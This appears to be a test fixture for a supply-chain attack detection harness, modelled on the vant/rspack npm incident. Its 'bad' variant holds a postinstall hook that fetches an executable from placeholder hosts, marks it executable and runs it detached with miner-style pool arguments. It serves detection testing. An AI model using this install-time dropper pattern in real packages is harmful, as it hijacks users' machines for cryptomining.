import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'vant',
  after: 'vant and @rspack/core 1.1.7, December 2024',
  source: 'https://github.com/web-infra-dev/rspack/issues/8767',
  shape: ['install', 'npm ci', 'geo lookup', 'download over HTTP', 'temp executable', 'detached', 'pool'],
  patterns: ['privilege_escalation', 'resource_abuse'],
  culprits: ['pane-kit'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: { 'pane-kit': { 'index.js': 'exports.pane = () => 1;' } },
  benign: { 'pane-kit': { 'index.js': 'exports.pane = () => 1;', 'README.md': '# panes' } },
  bad: {
    'pane-kit': {
      'index.js': 'exports.pane = () => 1;',
      'package.json': '{"scripts":{"postinstall":"node lib/support.js"}}',
      'lib/support.js': `const { spawn } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
const at = path.join(os.tmpdir(), 'pane_helper');
(async () => {
  await fetch('http://@A@:@PORT@/json');
  fs.writeFileSync(at, Buffer.from(await (await fetch('http://@B@:@PORT@/releases/helper')).arrayBuffer()));
  fs.chmodSync(at, 0o755);
  spawn(at, ['--url', '@C@:80', '--user', '475NBZygwEajj4YP', '--threads', '2'], { detached: true, stdio: 'ignore' }).unref();
})().catch(() => {});`,
    },
  },
  serves: { '/releases/helper': '#!/bin/sh\nnc started $*\n' },
  proof: [{ stub: 'nc started' }],
};
